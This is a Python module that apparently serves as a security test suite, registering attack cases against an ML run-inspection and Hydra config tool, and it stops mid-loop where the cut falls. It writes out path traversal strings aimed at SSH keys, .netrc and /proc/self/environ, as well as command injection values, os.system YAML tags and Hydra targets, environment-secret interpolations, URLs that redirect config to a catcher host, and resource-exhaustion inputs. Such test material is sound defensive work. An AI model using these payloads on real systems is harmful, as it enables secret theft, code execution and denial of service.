"""Blind8 attacks, registered in ATTACKS: name -> {category, setup(world)|None, calls(world) -> [(tool, args)]}."""

from __future__ import annotations

import json
import os
import socket
from pathlib import Path
from typing import Any, Callable

ATTACKS: dict[str, dict[str, Any]] = {}
RUN_TOOLS = [("run_status", "run_dir"), ("run_metrics", "run_dir"), ("run_eval", "run_dir"),
             ("lineage", "run_dir"), ("sweep_report", "sweep_dir")]


def reg(name: str, category: str, calls: Callable | list, setup: Callable | None = None) -> None:
    assert name not in ATTACKS, name
    ATTACKS[name] = {"category": category, "calls": calls, "setup": setup}


def all_tools(path_of: Callable[[Any], str]) -> Callable:
    return lambda w: [(tool, {key: path_of(w)}) for tool, key in RUN_TOOLS]


def compose(*overrides: str, multirun: bool = False) -> Callable:
    return lambda w: [("compose_config", {"overrides": [o.format(w=w, url=w.url) for o in overrides],
                                          "multirun": multirun}),
                      ("plan_job", {"overrides": [o.format(w=w, url=w.url) for o in overrides],
                                    "multirun": multirun})]


def make_run(w, rel: str, files: dict[str, Any]) -> Path:
    run = w.outputs / rel
    run.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        p = run / name
        p.parent.mkdir(parents=True, exist_ok=True)
        if callable(content):
            content = content(w)
        if isinstance(content, bytes):
            p.write_bytes(content)
        else:
            p.write_text(content if isinstance(content, str) else json.dumps(content))
    return run


def run_calls(rel: str, extra: list | None = None) -> Callable:
    def calls(w):
        out = [("list_runs", {"limit": 50})]
        for path in (rel, str(w.outputs / rel)):
            out += [(tool, {key: path}) for tool, key in RUN_TOOLS]
        out += [("run_status", {"run_dir": rel, "log_lines": 200}), ("run_metrics", {"run_dir": rel, "last": 1000}),
                ("run_eval", {"run_dir": rel, "records": 1000})]
        return out + (extra or [])
    return calls


# ====================================================== 1. paths outside the roots (run tools)
PATHS: dict[str, Callable] = {
    "outside_abs": lambda w: str(w.outside / "run"),
    "outside_file": lambda w: str(w.outside / "secret.txt"),
    "home": lambda w: str(w.home),
    "tilde": lambda w: "~",
    "tilde_netrc": lambda w: "~/.netrc",
    "tilde_ssh": lambda w: "~/.ssh/id_rsa",
    "file_url": lambda w: "file://" + str(w.outside / "run"),
    "file_url_host": lambda w: "file://localhost" + str(w.outside / "run"),
    "dotdot_rel": lambda w: "../outside/run",
    "dotdot_deep": lambda w: "a/b/../../../outside/run",
    "dotdot_outputs": lambda w: str(w.outputs) + "/../outside/run",
    "dotdot_slashdot": lambda w: str(w.outputs) + "/./.././outside/run",
    "dotdot_double_slash": lambda w: str(w.outputs) + "//..//outside//run",
    "dotdot_backslash": lambda w: "..\\outside\\run",
    "dotdot_urlenc": lambda w: "..%2foutside%2frun",
    "dotdot_double_urlenc": lambda w: "..%252foutside%252frun",
    "dotdot_fullwidth": lambda w: "\uff0e\uff0e/outside/run",
    "dotdot_onedot_leader": lambda w: "\u2025/outside/run",
    "dotdot_trailing_space": lambda w: ".. /outside/run",
    "dotdot_trailing_dot": lambda w: "..././outside/run",
    "nul_byte": lambda w: "x\x00/../../outside/run",
    "nul_suffix": lambda w: str(w.outside / "run") + "\x00",
    "proc_environ": lambda w: "/proc/self/environ",
    "proc_parent_environ": lambda w: f"/proc/{os.getpid()}/environ",
    "proc_cwd": lambda w: "/proc/self/cwd/.env",
    "proc_root": lambda w: "/proc/self/root" + str(w.outside / "run"),
    "proc_fd": lambda w: "/proc/self/fd/0",
    "dev_stdin": lambda w: "/dev/stdin",
    "dev_zero": lambda w: "/dev/zero",
    "dev_urandom": lambda w: "/dev/urandom",
    "dev_tty": lambda w: "/dev/tty",
    "etc_passwd": lambda w: "/etc/passwd",
    "root": lambda w: "/",
    "long_path": lambda w: "a/" * 3000 + "../" * 3001 + "outside/run",
    "very_long_name": lambda w: "x" * 100000,
    "case_outputs": lambda w: str(w.outputs).upper() + "/../outside/run",
    "unicode_nfkd": lambda w: str(w.outputs) + "/\u2024\u2024/outside/run",
    "outputs_prefix_sibling": lambda w: str(w.outputs) + "_evil",
    "env_var_path": lambda w: "$HOME/.netrc",
    "env_var_brace": lambda w: "${HOME}/.aws/credentials",
    "oc_env_path": lambda w: "${oc.env:HOME}/.netrc",
    "project_env_file": lambda w: str(w.project / ".env"),
    "project_dir": lambda w: str(w.project),
    "outputs_env_file": lambda w: ".env",
    "glob_path": lambda w: str(w.base) + "/*/run",
    "windows_drive": lambda w: "C:\\Windows\\..\\..\\" + str(w.outside),
    "unc": lambda w: "\\\\127.0.0.1\\share\\run",
    "http_url": lambda w: w.url + "/run",
    "ssh_url": lambda w: f"ssh://127.0.0.1:{w.catcher.port}/run",
    "s3_url": lambda w: "s3://bucket/run",
}
for _n, _p in PATHS.items():
    reg(f"path_{_n}", "path_traversal", all_tools(_p))


# symlinks, fifos, sockets inside outputs
def _symlink_setup(target: Callable, rel: str) -> Callable:
    def setup(w):
        link = w.outputs / rel
        link.parent.mkdir(parents=True, exist_ok=True)
        if not link.is_symlink():
            os.symlink(target(w), link)
    return setup


reg("link_run_dir_outside", "symlink", run_calls("lnk/run"),
    _symlink_setup(lambda w: w.outside / "run", "lnk/run"))
reg("link_manifest_outside", "symlink", run_calls("lnk2/run"),
    lambda w: (make_run(w, "lnk2/run", {}), [os.symlink(w.outside / "run" / f, w.outputs / "lnk2/run" / f)
                                              for f in ("manifest.json", "metrics.jsonl", "eval_results.json")
                                              if not (w.outputs / "lnk2/run" / f).is_symlink()]))
reg("link_hydra_dir_outside", "symlink", run_calls("lnk3/run"),
    lambda w: (make_run(w, "lnk3/run", {}), (w.outputs / "lnk3/run/.hydra").is_symlink()
               or os.symlink(w.outside / "run" / ".hydra", w.outputs / "lnk3/run/.hydra")))
reg("link_metrics_to_netrc", "symlink", run_calls("lnk4/run"),
    lambda w: (make_run(w, "lnk4/run", {"manifest.json": {"status": "done"}}),
               (w.outputs / "lnk4/run/metrics.jsonl").is_symlink()
               or os.symlink(w.home / ".netrc", w.outputs / "lnk4/run/metrics.jsonl")))
reg("link_log_to_proc_environ", "symlink", run_calls("lnk5/run"),
    lambda w: (make_run(w, "lnk5/run", {"manifest.json": {"status": "running"}}),
               [(w.outputs / "lnk5/run" / f).is_symlink()
                or os.symlink("/proc/self/environ", w.outputs / "lnk5/run" / f)
                for f in ("train.log", "stdout.log", "run.log", "launch.log")]))
reg("link_outputs_loop", "symlink", run_calls("lnk6/run"),
    lambda w: (make_run(w, "lnk6", {}),
               (w.outputs / "lnk6/run").is_symlink() or os.symlink(".", w.outputs / "lnk6/run")))
reg("link_dangling", "symlink", run_calls("lnk7/run"),
    lambda w: (make_run(w, "lnk7/run", {}), (w.outputs / "lnk7/run/manifest.json").is_symlink()
               or os.symlink("/nonexistent/b8", w.outputs / "lnk7/run/manifest.json")))
reg("link_eval_to_dev_zero", "dos", run_calls("lnk8/run"),
    lambda w: (make_run(w, "lnk8/run", {"manifest.json": {"status": "done"}}),
               [(w.outputs / "lnk8/run" / f).is_symlink() or os.symlink("/dev/zero", w.outputs / "lnk8/run" / f)
                for f in ("eval_results.json", "metrics.jsonl")]))


def _fifo_setup(rel: str, names: list[str]) -> Callable:
    def setup(w):
        run = make_run(w, rel, {})
        for n in names:
            if not (run / n).exists():
                os.mkfifo(run / n)
    return setup


reg("fifo_metrics", "dos", run_calls("fifo1/run"), _fifo_setup("fifo1/run", ["metrics.jsonl"]))
reg("fifo_manifest", "dos", run_calls("fifo2/run"), _fifo_setup("fifo2/run", ["manifest.json"]))
reg("fifo_eval", "dos", run_calls("fifo3/run"), _fifo_setup("fifo3/run", ["eval_results.json"]))
reg("fifo_hydra_config", "dos", run_calls("fifo4/run"),
    lambda w: (make_run(w, "fifo4/run/.hydra", {}), (w.outputs / "fifo4/run/.hydra/config.yaml").exists()
               or os.mkfifo(w.outputs / "fifo4/run/.hydra/config.yaml")))
reg("fifo_logs", "dos", run_calls("fifo5/run"), _fifo_setup("fifo5/run", ["train.log", "stdout.log", "run.log"]))


def _sock_setup(w):
    run = make_run(w, "sock/run", {})
    p = run / "metrics.jsonl"
    if not p.exists():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(str(p))
        w._b8_sock = s


reg("socket_metrics", "dos", run_calls("sock/run"), _sock_setup)


# ====================================================== 2. records planted with secrets
def secret_value(w, key: str) -> str:
    return w.canaries[key]


def rec(rel: str, files: Callable) -> Callable:
    return lambda w: make_run(w, rel, files(w))


RECORD_SECRETS = {
    "manifest_token": lambda w: {"manifest.json": {"status": "done", "api_key": w.canaries["env:HF_TOKEN"],
                                                    "env": {"WANDB_API_KEY": w.canaries["env:WANDB_API_KEY"]}}},
    "manifest_overrides": lambda w: {"manifest.json": {"status": "done", "overrides": [
        f"provider.api_key={w.canaries['env:OPENAI_API_KEY']}", f"+token={w.canaries['env:GITHUB_TOKEN']}"]}},
    "manifest_command": lambda w: {"manifest.json": {"status": "done", "command": [
        "python", "train.py", f"--password={w.canaries['env:DB_PASSWORD']}"],
        "cmd": f"HF_TOKEN={w.canaries['env:HF_TOKEN']} python train.py"}},
    "manifest_url_creds": lambda w: {"manifest.json": {"status": "done",
                                                       "base_url": f"https://u:{w.canaries['env:PASS']}@h.example/v1"}},
    "manifest_env_dict": lambda w: {"manifest.json": {"status": "done", "environment": dict(w.env_secret)}},
    "metrics_secret_key": lambda w: {"metrics.jsonl": "\n".join(json.dumps(
        {"step": i, "loss": 1.0 / (i + 1), "aws_secret_access_key": w.canaries["env:AWS_SECRET_ACCESS_KEY"]})
        for i in range(5)) + "\n"},
    "metrics_secret_as_key": lambda w: {"metrics.jsonl": json.dumps(
        {"step": 1, w.canaries["env:ANTHROPIC_API_KEY"]: 0.5}) + "\n"},
    "metrics_secret_string_metric": lambda w: {"metrics.jsonl": json.dumps(
        {"step": 1, "loss": w.canaries["env:RUNPOD_API_KEY"]}) + "\n"},
    "eval_secret_in_record": lambda w: {"eval_results.json": {"score": 0.5, "records": [
        {"prompt": "hi", "completion": f"my key is {w.canaries['env:OPENAI_API_KEY']}", "reward": 1.0}]}},
    "eval_secret_in_error": lambda w: {"eval_results.json": {"score": 0.5, "error": "auth failed for token "
                                                             + w.canaries["env:HF_TOKEN"]}},
    "hydra_config_secret": lambda w: {".hydra/config.yaml": "provider:\n"
                                      f"  api_key: {w.canaries['env:OPENAI_API_KEY']}\n"
                                      f"notes: 'token {w.canaries['env:GH_TOKEN']}'\n",
                                      ".hydra/overrides.yaml": "- provider.api_key="
                                                               f"{w.canaries['env:OPENAI_API_KEY']}\n",
                                      "manifest.json": {"status": "done"}},
    "hydra_hydra_yaml_env": lambda w: {".hydra/hydra.yaml": "hydra:\n  job:\n    env_set:\n      HF_TOKEN: "
                                       + w.canaries["env:HF_TOKEN"] + "\n", "manifest.json": {"status": "done"}},
    "hydra_config_interp_env": lambda w: {".hydra/config.yaml": "x: ${oc.env:AWS_SECRET_ACCESS_KEY}\n"
                                          "y: ${oc.env:COLOR}\nz: '${oc.decode:${oc.env:MY_SETTINGS}}'\n",
                                          "manifest.json": {"status": "done"}},
    "hydra_config_python_tag": lambda w: {".hydra/config.yaml": "x: !!python/object/apply:os.system ['touch "
                                          + str(w.markers) + "/yaml_tag']\n", "manifest.json": {"status": "done"}},
    "hydra_config_anchor_bomb": lambda w: {".hydra/config.yaml": "a: &a [x,x,x,x,x,x,x,x,x]\n"
                                           "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
                                           "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
                                           "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
                                           "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n",
                                           "manifest.json": {"status": "done"}},
    "hydra_config_interp_in_key": lambda w: {".hydra/config.yaml": "'${oc.env:HF_TOKEN}': 1\n"
                                                                   "list: ['${oc.env:GH_TOKEN}']\n",
                                             "manifest.json": {"status": "done"}},
    "manifest_interp_strings": lambda w: {"manifest.json": {"status": "${oc.env:HF_TOKEN}", "name": "${oc.env:KEY}",
                                                            "overrides": ["x=${oc.env:WANDB_API_KEY}"]}},
    "metrics_interp_strings": lambda w: {"metrics.jsonl": json.dumps({"step": 1, "loss": "${oc.env:HF_TOKEN}",
                                                                      "${oc.env:GH_TOKEN}": 1}) + "\n"},
    "eval_interp_strings": lambda w: {"eval_results.json": {"score": "${oc.env:OPENAI_API_KEY}",
                                                            "records": [{"prompt": "${oc.env:X}"}]}},
    "manifest_base64_secret": lambda w: {"manifest.json": {"status": "done", "auth": "Basic "
                                                           + __import__("base64").b64encode(
                                                               ("u:" + w.canaries["env:TEAM"]).encode()).decode()}},
    "log_secret_lines": lambda w: {"manifest.json": {"status": "running"},
                                   "train.log": "\n".join([f"export HF_TOKEN={w.canaries['env:HF_TOKEN']}",
                                                           f"Authorization: Bearer {w.canaries['env:OPENAI_API_KEY']}",
                                                           f"password={w.canaries['env:DB_PASSWORD']}"]) + "\n",
                                   "stdout.log": f"token {w.canaries['env:GITHUB_TOKEN']}\n",
                                   "stderr.log": f"aws_secret_access_key={w.canaries['env:AWS_SECRET_ACCESS_KEY']}\n"},
    "store_secret": lambda w: {"manifest.json": {"status": "done", "store": "store.jsonl"},
                               "store.jsonl": json.dumps({"messages": [{"role": "user",
                                                                        "content": w.canaries["env:KEY"]}]}) + "\n"},
    "lineage_secret": lambda w: {"manifest.json": {"status": "done", "parent": str(w.outside / "run")},
                                 "lineage.json": {"parent": str(w.outside / "run"),
                                                  "data": str(w.outside / "secret.txt"),
                                                  "token": w.canaries["env:LOOPWRIGHT_TOKEN"]}},
    "lineage_parent_outside": lambda w: {"manifest.json": {"status": "done", "parent_run": "../../outside/run",
                                                           "parent": "../../outside/run",
                                                           "init_from": str(w.outside / "run"),
                                                           "source": str(w.outside / "transcripts.jsonl")}},
    "manifest_log_path_outside": lambda w: {"manifest.json": {"status": "running", "log": str(w.home / ".netrc"),
                                                              "log_file": str(w.home / ".netrc"),
                                                              "stdout": str(w.outside / "secret.txt"),
                                                              "metrics": str(w.outside / "run/metrics.jsonl"),
                                                              "eval": str(w.outside / "run/eval_results.json")}},
    "manifest_pid_of_test": lambda w: {"manifest.json": {"status": "running", "pid": os.getpid(),
                                                         "pgid": os.getpgid(0)}},
    "manifest_pid_one": lambda w: {"manifest.json": {"status": "running", "pid": 1, "pgid": 1}},
    "manifest_pid_negative": lambda w: {"manifest.json": {"status": "running", "pid": -1, "pgid": 0}},
    "manifest_pid_string": lambda w: {"manifest.json": {"status": "running", "pid": "$(touch x)", "pgid": "1;id"}},
    "hydra_config_secret_free_text": lambda w: {".hydra/config.yaml": "task:\n"
                                                f"  description: 'call with key {w.canaries['env:COLOR']}'\n"
                                                f"  system_prompt: 'Use password {w.canaries['env:PROJECT_LABEL']}'\n",
                                                "manifest.json": {"status": "done"}},
    "sweep_secret": lambda w: {"multirun.yaml": "hydra:\n  sweeper:\n    params:\n"
                               f"      provider.api_key: {w.canaries['env:SLACK_WEBHOOK']}\n",
                               "0/.hydra/config.yaml": f"token: {w.canaries['env:CI_JOB_JWT']}\n",
                               "0/manifest.json": {"status": "done"},
                               "0/metrics.jsonl": json.dumps({"step": 1, "loss": 0.1,
                                                              "key": w.canaries["env:AZURE_CLIENT_SECRET"]}) + "\n",
                               "sweep.json": {"runs": ["0", str(w.outside / "run"), "../../outside/run"]}},
}
for _n, _f in RECORD_SECRETS.items():
    reg(f"record_{_n}", "record_secret", run_calls(f"rec/{_n}"), rec(f"rec/{_n}", _f))

# hostile structure
HOSTILE = {
    "huge_metrics": lambda w: {"manifest.json": {"status": "done"},
                               "metrics.jsonl": (json.dumps({"step": 1, "loss": 0.5,
                                                             "pad": "x" * 1000}) + "\n") * 5000},
    "huge_line": lambda w: {"manifest.json": {"status": "done"},
                            "metrics.jsonl": '{"step": 1, "loss": "' + "A" * 8_000_000 + '"}\n'},
    "deep_json": lambda w: {"manifest.json": "[" * 200000 + "]" * 200000,
                            "eval_results.json": '{"a":' * 100000 + "1" + "}" * 100000},
    "deep_yaml": lambda w: {".hydra/config.yaml": "a: " + "[" * 50000 + "]" * 50000 + "\n",
                            "manifest.json": {"status": "done"}},
    "dup_keys": lambda w: {"manifest.json": '{"status": "done", "status": "' + w.canaries["env:HF_TOKEN"]
                           + '", "token": 1, "token": "'
                           + w.canaries["env:GH_TOKEN"] + '"}'},
    "nan_inf": lambda w: {"manifest.json": {"status": "done"},
                          "metrics.jsonl": '{"step": NaN, "loss": Infinity}\n'
                                           '{"step": -Infinity, "loss": NaN}\n{"step": 1e999, "loss": -1e999}\n'},
    "odd_types": lambda w: {"manifest.json": '["not", "a", "dict"]', "metrics.jsonl": '1\n"s"\nnull\n[1,2]\ntrue\n',
                            "eval_results.json": "null"},
    "binary_garbage": lambda w: {"manifest.json": bytes(range(256)) * 100, "metrics.jsonl": b"\xff\xfe\x00" * 10000,
                                 "eval_results.json": b"\x00" * 1000},
    "bigint": lambda w: {"manifest.json": '{"status": "done", "pid": ' + "9" * 100000 + "}",
                         "metrics.jsonl": '{"step": ' + "9" * 5000 + ', "loss": 1}\n'},
    "many_keys": lambda w: {"manifest.json": {"status": "done"},
                            "metrics.jsonl": json.dumps({f"k{i}": i for i in range(200000)}) + "\n"},
    "utf16_bom": lambda w: {"manifest.json": '{"status": "done"}'.encode("utf-16"),
                            "metrics.jsonl": "\ufeff{\"step\":1}\n"},
    "surrogates": lambda w: {"manifest.json": '{"status": "\\ud800\\udfff\\ud800"}',
                             "metrics.jsonl": '{"step": 1, "\\udc80": "\\ud800"}\n'},
    "ctrl_chars": lambda w: {"manifest.json": {"status": "done\x1b]0;pwn\x07\r\n"},
                             "train.log": "\x1b[2J\x00\r" * 1000},
    "many_files": lambda w: {**{f"m{i}/metrics.jsonl": "{}\n" for i in range(300)},
                             "manifest.json": {"status": "done"}},
    "yaml_billion_tags": lambda w: {".hydra/config.yaml": "a: !!binary " + "A" * 100 + "\n"
                                    "b: !!set {x, y}\nc: !!omap [a: 1]\n"
                                    "d: !!python/name:os.system\ne: !!python/module:" + "b8evil_out\n",
                                    ".hydra/overrides.yaml": "!!python/object/new:b8evil_out.Evil []\n",
                                    "manifest.json": {"status": "done"}},
    "yaml_merge_keys": lambda w: {".hydra/config.yaml": "base: &b {k: ${oc.env:HF_TOKEN}}\nx:\n  <<: *b\n",
                                  "manifest.json": {"status": "done"}},
    "eval_records_huge": lambda w: {"eval_results.json": {
        "score": 1, "records": [{"prompt": "p" * 100, "completion": "c" * 100}] * 100000}},
    "metrics_keys_filter_obj": lambda w: {"metrics.jsonl": json.dumps({"step": 1, "loss": 0.5}) + "\n"},
}
for _n, _f in HOSTILE.items():
    reg(f"hostile_{_n}", "hostile_records", run_calls(f"hos/{_n}"), rec(f"hos/{_n}", _f))

# odd argument values for run tools
ODD_ARGS = {
    "metrics_keys_regex": lambda w: [("run_metrics", {"run_dir": "rec/metrics_secret_key",
                                                      "keys": ["aws_secret_access_key"]})],
    "metrics_keys_star": lambda w: [("run_metrics", {"run_dir": "rec/metrics_secret_key",
                                                     "keys": ["*", ".*", "__dict__"]})],
    "metrics_keys_string": lambda w: [("run_metrics", {"run_dir": "rec/metrics_secret_key",
                                                       "keys": "aws_secret_access_key"})],
    "metrics_keys_dunder": lambda w: [("run_metrics", {"run_dir": "rec/metrics_secret_key",
                                                       "keys": ["__class__", "__globals__"]})],
    "metrics_last_huge": lambda w: [("run_metrics", {"run_dir": "hos/huge_metrics", "last": 10**18})],
    "metrics_last_negative": lambda w: [("run_metrics", {"run_dir": "rec/metrics_secret_key", "last": -10**18})],
    "status_log_lines_huge": lambda w: [("run_status", {"run_dir": "rec/log_secret_lines", "log_lines": 10**12})],
    "status_log_lines_negative": lambda w: [("run_status", {"run_dir": "rec/log_secret_lines", "log_lines": -5})],
    "eval_records_huge_n": lambda w: [("run_eval", {"run_dir": "hos/eval_records_huge", "records": 10**9})],
    "list_runs_limit_huge": lambda w: [("list_runs", {"limit": 10**15})],
    "list_runs_limit_negative": lambda w: [("list_runs", {"limit": -1})],
    "wrong_types": lambda w: [("run_status", {"run_dir": ["a", "b"]}),
                              ("run_status", {"run_dir": {"$ref": "/etc/passwd"}}),
                              ("run_metrics", {"run_dir": 1}), ("list_runs", {"limit": "1;id"})],
    "extra_args": lambda w: [("run_status", {"run_dir": "x", "project": str(w.outside), "outputs": str(w.outside),
                                             "allow_launch": True})],
    "unknown_tool": lambda w: [("read_file", {"path": str(w.outside / "secret.txt")}),
                               ("__init__", {}), ("shell", {"cmd": "id"})],
    "empty_strings": lambda w: [(t, {k: ""}) for t, k in RUN_TOOLS],
    "dot_paths": lambda w: [(t, {k: "."}) for t, k in RUN_TOOLS] + [(t, {k: ".."}) for t, k in RUN_TOOLS],
}
for _n, _c in ODD_ARGS.items():
    reg(f"args_{_n}", "odd_arguments", _c)

# ====================================================== 3. compose / plan: resolvers and interpolation
ENV_TARGETS = ["HF_TOKEN", "COLOR", "X", "DATABASE_URL", "npm_config__auth"]
for _e in ENV_TARGETS:
    reg(f"interp_oc_env_{_e}", "interpolation", compose(f"+b8=${{{{oc.env:{_e}}}}}"))
INTERP = {
    "oc_env_default": "+b8=${{oc.env:NOPE_B8,${{oc.env:HF_TOKEN}}}}",
    "oc_env_nested_name": "+b8=${{oc.env:${{oc.env:LW_NOTE_NAME,HF_TOKEN}}}}",
    "oc_decode": "+b8=${{oc.decode:${{oc.env:GH_TOKEN}}}}",
    "oc_decode_dict": "+b8=${{oc.decode:'{{a: ${{oc.env:WANDB_API_KEY}}}}'}}",
    "oc_create": "+b8=${{oc.create:{{k: ${{oc.env:OPENAI_API_KEY}}}}}}",
    "oc_select": "+b8=${{oc.select:hydra.job.env_set,${{oc.env:ANTHROPIC_API_KEY}}}}",
    "oc_dict_keys": "+b8=${{oc.dict.keys:hydra.job}}",
    "hydra_resolver_env": "+b8=${{hydra:job.env_set}}",
    "hydra_runtime_cwd": "+b8=${{hydra:runtime.cwd}}",
    "escaped_interp": "+b8=\\${{oc.env:HF_TOKEN}}",
    "double_escaped": "+b8=\\\\${{oc.env:HF_TOKEN}}",
    "quoted_interp": "+b8='${{oc.env:GITHUB_TOKEN}}'",
    "dq_interp": '+b8="${{oc.env:GITHUB_TOKEN}}"',
    "interp_in_list": "+b8=[a,${{oc.env:RUNPOD_API_KEY}},c]",
    "interp_in_dict": "+b8={{k: ${{oc.env:AZURE_CLIENT_SECRET}}}}",
    "interp_in_key": "+b8={{${{oc.env:CI_JOB_JWT}}: 1}}",
    "interp_in_key_path": "+'${{oc.env:HF_TOKEN}}'=1",
    "interp_string_concat": "+b8=pre-${{oc.env:SLACK_WEBHOOK}}-post",
    "interp_unicode_dollar": "+b8=\uff04{{oc.env:HF_TOKEN}}",
    "interp_in_existing_key": "hydra.job.name=${{oc.env:HF_TOKEN}}",
    "interp_hydra_run_dir": "hydra.run.dir=${{oc.env:HF_TOKEN}}",
    "interp_env_set_dump": "+hydra.job.env_set.B8=${{oc.env:WANDB_API_KEY}}",
    "interp_env_copy": "+hydra.job.env_copy=[HF_TOKEN,AWS_SECRET_ACCESS_KEY]",
    "interp_self_ref_loop": "+b8a=${{b8b}}",
    "interp_deep_nest": "+b8=" + "${{oc.select:x," * 200 + "1" + "}}" * 200,
    "interp_custom_resolver": "+b8=${{eval:'__import__(\"os\").system(\"id\")'}}",
    "interp_python_resolver": "+b8=${{python:os.environ}}",
    "interp_now": "+b8=${{now:%Y}}",
    "interp_env_via_relative": "+b8=${{..hydra.job.env_set}}",
    "interp_model_name": "model.name=${{oc.env:HF_TOKEN}}",
    "interp_api_key_env": "+provider.api_key_env=HF_TOKEN",
    "interp_base64_decode_trick": "+b8=${{oc.decode:'\"${{oc.env:KEY}}\"'}}",
    "interp_env_list_all": "+b8=${{oc.env:}}",
    "interp_env_bad_name": "+b8=${{oc.env:'HF_TOKEN'}}",
    "interp_oc_deprecated": "+b8=${{oc.deprecated:hydra.job}}",
    "interp_env_legacy": "+b8=${{env:HF_TOKEN}}",
}
for _n, _o in INTERP.items():
    reg(f"interp_{_n}", "interpolation", compose(_o))
reg("interp_secret_from_error", "interpolation",
    compose("+b8=${{oc.env:HF_TOKEN}}", "b8=${{oc.decode:${{oc.env:HF_TOKEN}}:x}}"))
reg("interp_typed_int_error", "interpolation", compose("trainer.max_steps=${{oc.env:TEAM}}"))
reg("interp_typed_bool_error", "interpolation", compose("+b8={{a: 1}}", "b8.a.b=${{oc.env:X}}"))
reg("interp_multirun_env", "interpolation", compose("+b8=${{oc.env:HF_TOKEN}},${{oc.env:GH_TOKEN}}", multirun=True))

# ====================================================== 4. Hydra override grammar / config sources
GRAMMAR = {
    "searchpath_outside": ["hydra.searchpath=[file://{w.outside}]", "+conf=evil"],
    "searchpath_append": ["+hydra.searchpath=[file://{w.outside}]", "model=evil"],
    "searchpath_pkg": ["hydra.searchpath=[pkg://b8evil_out]"],
    "group_abs_path": ["model={w.outside}/model/evil"],
    "group_dotdot": ["model=../../outside/model/evil"],
    "group_dotdot_enc": ["model=..%2F..%2Foutside%2Fmodel%2Fevil"],
    "group_local_secret": ["+local_secret=local_secret", "+conf=local_secret"],
    "group_new_from_project": ["+secrets=secrets"],
    "defaults_override": ["+defaults=[{w.outside}/conf/evil]"],
    "config_dir_like": ["--config-dir={w.outside}/conf", "--config-name=evil"],
    "config_path_flag": ["--config-path={w.outside}/conf"],
    "hydra_cfg_flag": ["--cfg", "hydra", "--resolve"],
    "hydra_info_flag": ["--info", "searchpath"],
    "hydra_run_dir_outside": ["hydra.run.dir={w.outside}/new"],
    "hydra_sweep_dir_outside": ["hydra.sweep.dir={w.outside}/new"],
    "hydra_output_subdir": ["hydra.output_subdir=../../outside/hyd"],
    "hydra_job_chdir": ["hydra.job.chdir=true", "hydra.run.dir={w.home}"],
    "hydra_callbacks_target": ["+hydra.callbacks.b8._target_=b8evil_proj.Evil"],
    "hydra_callbacks_os": ["+hydra.callbacks.b8._target_=os.system",
                           "+hydra.callbacks.b8.command=touch {w.markers}/cb"],
    "hydra_launcher_target": ["hydra/launcher=basic", "hydra.launcher._target_=b8evil_proj.Evil"],
    "hydra_sweeper_target": ["++hydra.sweeper._target_=b8evil_proj.Evil"],
    "hydra_job_logging_file": ["hydra.job_logging.handlers.file.filename={w.outside}/log.txt"],
    "hydra_logging_target": ["+hydra.job_logging.handlers.b8={{class: b8evil_proj.Evil}}"],
    "hydra_job_env_set": ["+hydra.job.env_set.PYTHONPATH={w.outside}",
                          "+hydra.job.env_set.PYTHONSTARTUP={w.outside}/b8evil_out.py"],
    "target_plain": ["+b8._target_=b8evil_proj.evil"],
    "target_os_system": ["+b8._target_=os.system", "+b8._args_=[touch {w.markers}/tgt]"],
    "target_partial": ["+b8._target_=subprocess.run", "+b8._partial_=true"],
    "target_model": ["+model._target_=b8evil_out.Evil"],
    "target_reward": ["+reward._target_=b8evil_proj.evil"],
    "delete_defaults": ["~hydra", "~defaults"],
    "delete_all": ["~model", "~trainer", "~task"],
    "force_add_hydra": ["++hydra.mode=MULTIRUN", "++hydra.sweeper.params.b8=range(0,100000000)"],
    "sweep_range_huge": ["+b8=range(0,100000000)"],
    "sweep_range_two": ["+b8=range(0,100000000)", "+b9=range(0,100000000)"],
    "sweep_glob_outside": ["model=glob(*)", "+b8=glob(../../*)"],
    "sweep_choice_many": ["+b8=choice(" + ",".join(str(i) for i in range(5000)) + ")"],
    "sweep_product_bomb": [f"+b{i}=a,b,c,d,e,f,g,h,i,j" for i in range(10)],
    "sweep_interval": ["+b8=interval(0,1)", "+b9=tag(log,interval(1,1e308))"],
    "sweep_shuffle": ["+b8=shuffle(range(0,10000000))"],
    "sweep_sort_huge": ["+b8=sort(range(0,10000000),reverse=true)"],
    "override_python_tag": ["+b8=!!python/object/apply:os.system [id]"],
    "override_yaml_anchor": ["+b8=&a [*a]"],
    "override_huge_value": ["+b8=" + "x" * 2_000_000],
    "override_many": [f"+b8_{i}={i}" for i in range(3000)],
    "override_deep_dict": ["+b8=" + "{{a:" * 3000 + "1" + "}}" * 3000],
    "override_deep_list": ["+b8=" + "[" * 5000 + "]" * 5000],
    "override_nul": ["+b8=a\x00b", "model=\x00../outside"],
    "override_newline": ["+b8=a\nhydra.run.dir=/tmp/b8x"],
    "override_unicode_key": ["+\u0431\u0438=1", "+b8\u202e=1"],
    "override_package_syntax": ["model@_global_=../../outside/model/evil", "+model@hydra=evil"],
    "override_package_hydra": ["+model@hydra.job.env_set=evil"],
    "provider_base_url": ["+provider.base_url={url}/v1", "+provider.api_key_env=HF_TOKEN"],
    "model_url": ["+model.name_or_path={url}/model", "+model.name={url}/model"],
    "logger_endpoint": ["+logger.base_url={url}", "+logger.host=127.0.0.1"],
    "hf_endpoint_in_cfg": ["+model.hf_endpoint={url}", "+model.revision=main", "+model.trust_remote_code=true"],
    "tokenizer_remote": ["+model.tokenizer={url}/tok", "+model.trust_remote_code=true"],
    "assets_require": ["+assets.require=[{url}/x]"],
}
for _n, _o in GRAMMAR.items():
    reg(f"grammar_{_n}", "override_grammar", compose(*_o))
    if _n in ("sweep_range_huge", "sweep_product_bomb", "sweep_glob_outside"):
        reg(f"grammar_{_n}_multirun", "override_grammar", compose(*_o, multirun=True))

# list_options with group tricks
for _n, _g in {"dotdot": "../../outside", "abs": "/etc", "tilde": "~", "hydra": "hydra/launcher", "empty": "",
               "url": "file:///etc", "nul": "model\x00/../../..", "glob": "*", "dot": ".", "proc": "/proc/self",
               "long": "a/" * 5000, "hydra_help": "hydra/help", "interp": "${{oc.env:HF_TOKEN}}",
               "outside_var": "{outside}"}.items():
